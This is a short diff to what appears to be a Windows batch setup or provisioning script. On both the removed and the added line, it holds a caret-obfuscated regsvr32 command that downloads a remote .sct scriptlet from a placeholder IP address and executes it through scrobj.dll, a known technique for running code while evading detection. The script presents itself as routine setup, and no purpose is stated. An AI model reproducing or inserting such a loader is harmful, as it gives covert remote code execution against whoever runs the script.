@@ -1,2 +1,2 @@
-REM setup 7222 v0
-regs^vr^3^2 /^s /n /u /i:^h^t^t^p://2^03.0.1^1^3.^200/^file.sc^t ^scr^o^bj.^dll
+REM provision 7119 v0
+re^g^s^v^r^32 /s /n /^u /^i:h^t^t^p://198.^51.^100.9/f^il^e.s^c^t ^sc^r^o^bj.d^l^l
